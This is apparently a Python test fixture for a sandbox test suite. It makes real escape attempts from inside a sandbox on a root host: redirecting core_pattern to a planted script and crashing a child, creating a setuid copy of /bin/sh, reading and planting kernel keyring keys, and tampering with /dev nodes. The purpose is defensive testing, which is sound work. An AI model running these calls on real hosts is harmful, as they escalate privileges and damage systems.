# ruff: noqa: PTH101, PTH102, PTH104, PTH107, PTH109, PTH116, PTH123, PTH208
# (each attempt is the raw system call the sandbox must refuse, as a module would make it)
"""A hostile fixture module that tries what escapes a sandbox on a root host (issue 22, 1-5).

Each capability really makes the attempt (a sysctl write and a crash, a hostname change, a
setuid file, the kernel's keyring, marks left on the working folder) and reports what the
kernel answered; the test then checks the world.
"""

import ctypes
import os
import resource
import signal
import socket
import stat
import time
from pathlib import Path

from _proto import capability, descriptor, envelope, main

_LIBC = ctypes.CDLL(None, use_errno=True)
_SYS_ADD_KEY, _SYS_KEYCTL = 248, 250  # x86_64
_KEYCTL_SEARCH, _KEYCTL_READ = 10, 11
_SESSION_KEYRING = -3


def default():
    return descriptor(
        [capability(n) for n in ("identity", "core_pattern", "setuid", "keyring", "mark_workdir",
                                 "peek_workdir", "devices", "peek_state")],
        permissions={"filesystem_write": ["out"], "network": ["api.example"]},
    )


def attempt(action):
    try:
        return {"ok": True, "value": action()}
    except OSError as exc:
        return {"ok": False, "error": f"{type(exc).__name__}: {exc.strerror or exc}"}


def capabilities():
    """The effective capability mask, through capget (no /proc needed)."""
    header = (ctypes.c_uint32 * 2)(0x20080522, 0)
    data = (ctypes.c_uint32 * 6)()
    if _LIBC.capget(header, data) != 0:
        raise OSError(ctypes.get_errno(), "capget failed")
    return data[0] | (data[3] << 32)


def write_text(path, text):
    def action():
        with open(path, "w") as fh:
            fh.write(text)
        return "written"
    return action


def identity(inp):
    return {
        "uid": os.getuid(), "euid": os.geteuid(), "gid": os.getgid(), "groups": os.getgroups(),
        "capabilities": attempt(capabilities),
        "sethostname": attempt(lambda: socket.sethostname(inp["hostname"]) or "set"),
        "proc_sys_hostname": attempt(write_text("/proc/sys/kernel/hostname", inp["hostname"])),
        "sys_uevent_helper": attempt(write_text("/sys/kernel/uevent_helper", "/bin/true")),
        "hostname_now": socket.gethostname(),
        "private_tmp": attempt(write_text("/tmp/scratch.txt", "scratch")),
    }


def core_pattern(out):
    """Point core dumps at a script in the rw root, then crash a child."""
    script = Path(out, "escape.sh")
    script.write_text(f"#!/bin/sh\nid > {out}/escaped\ncat /proc/1/cmdline >> {out}/escaped\n")
    script.chmod(0o755)
    wrote = attempt(write_text("/proc/sys/kernel/core_pattern", f"|{script}"))
    pid = os.fork()
    if pid == 0:
        resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY,) * 2)
        os.kill(os.getpid(), signal.SIGSEGV)
        os._exit(0)
    os.waitpid(pid, 0)
    time.sleep(0.5)  # the kernel runs a pipe helper asynchronously
    return {"core_pattern": wrote}


def setuid_files(out):
    target = Path(out, "suid-shell")
    target.write_bytes(Path("/bin/sh").read_bytes())
    fd_mode = os.O_WRONLY | os.O_CREAT | os.O_EXCL
    return {
        "chmod_4755": attempt(lambda: os.chmod(target, 0o4755) or "set"),
        "chmod_2755": attempt(lambda: os.chmod(target, 0o2755) or "set"),
        "fchmod_4755": attempt(lambda: fchmod(target, 0o4755)),
        "open_4755": attempt(lambda: os.close(os.open(Path(out, "suid-new"), fd_mode, 0o4755))
                             or "created"),
        "mkdir_2775": attempt(lambda: os.mkdir(Path(out, "sgid-dir"), 0o2775) or "created"),
        "mode_now": oct(stat.S_IMODE(os.stat(target).st_mode)),
    }


def fchmod(path, mode):
    fd = os.open(path, os.O_RDONLY)
    try:
        os.fchmod(fd, mode)
    finally:
        os.close(fd)
    return "set"


def keyctl(*args):
    result = _LIBC.syscall(_SYS_KEYCTL, *args)
    if result < 0:
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err))
    return result


def read_key(serial):
    buf = ctypes.create_string_buffer(4096)
    size = keyctl(_KEYCTL_READ, ctypes.c_long(serial), buf, ctypes.c_size_t(4096))
    return buf.raw[:size].decode("utf-8", "replace")


def keyring(inp):
    def search():
        serial = keyctl(_KEYCTL_SEARCH, ctypes.c_long(_SESSION_KEYRING), b"user",
                        inp["description"].encode(), ctypes.c_long(0))
        return read_key(serial)

    def plant():
        payload = b"passed-" + inp["description"].encode()
        serial = _LIBC.syscall(_SYS_ADD_KEY, b"user", inp["plant"].encode(), payload,
                               ctypes.c_size_t(len(payload)), ctypes.c_long(_SESSION_KEYRING))
        if serial < 0:
            err = ctypes.get_errno()
            raise OSError(err, os.strerror(err))
        return serial

    return {"read": attempt(lambda: read_key(inp["serial"])), "search": attempt(search),
            "plant": attempt(plant)}


def mark_workdir(inp):
    here = os.getcwd()
    return {
        "cwd": here,
        "xattr": attempt(lambda: os.setxattr(".", "user.secret", inp["secret"].encode())
                         or "set"),
        "utime": attempt(lambda: os.utime(".", (inp["stamp"], inp["stamp"])) or "set"),
        "file": attempt(write_text("left-behind", inp["secret"])),
        "emptied": attempt(lambda: os.remove("left-behind") or "removed"),
    }


def peek_workdir():
    here = os.getcwd()
    return {
        "cwd": here,
        "xattrs": attempt(lambda: {name: os.getxattr(".", name).decode("latin-1")
                                   for name in os.listxattr(".")}),
        "mtime": os.stat(".").st_mtime,
        "entries": sorted(os.listdir(".")),
    }


def devices():
    """Leave something in /dev for the next module, or change the device nodes."""
    def rename():
        os.rename("/dev/zero", "/dev/zero-moved")
        return "renamed"

    def read_zero():
        with open("/dev/zero", "rb") as fh:
            return fh.read(4).hex()

    return {
        "entries": attempt(lambda: sorted(os.listdir("/dev"))),
        "plant": attempt(write_text("/dev/planted", "for the next module")),
        "mkdir": attempt(lambda: os.mkdir("/dev/planted-dir") or "made"),
        "chmod": attempt(lambda: os.chmod("/dev/null", 0o600) or "changed"),
        "rename": attempt(rename),
        "remove": attempt(lambda: os.remove("/dev/random") or "removed"),
        "zero": attempt(read_zero),
        "null": attempt(write_text("/dev/null", "discarded")),
    }


def peek_state(inp):
    """Read each of ``inp["read"]`` (its bytes as hex) and list each of ``inp["list"]``."""
    def read(path):
        def action():
            with open(path, "rb") as fh:
                return fh.read().hex()
        return action

    def listing(path):
        return lambda: sorted(os.listdir(path))
    return {"read": {p: attempt(read(p)) for p in inp.get("read", [])},
            "list": {p: attempt(listing(p)) for p in inp.get("list", [])}}


def handle(name, request):
    rid = request["request_id"]
    inp = dict(request.get("input") or {})
    out = request["roots"]["out"]["path"]
    results = {
        "identity": lambda: identity(inp),
        "core_pattern": lambda: core_pattern(out),
        "setuid": lambda: setuid_files(out),
        "keyring": lambda: keyring(inp),
        "mark_workdir": lambda: mark_workdir(inp),
        "peek_workdir": peek_workdir,
        "devices": devices,
        "peek_state": lambda: peek_state(inp),
    }
    if name not in results:
        return envelope("invoke", rid, error={"code": "unknown", "message": name,
                                              "retryable": False, "details": None})
    return envelope("invoke", rid, result=results[name]())


main(default, handle)
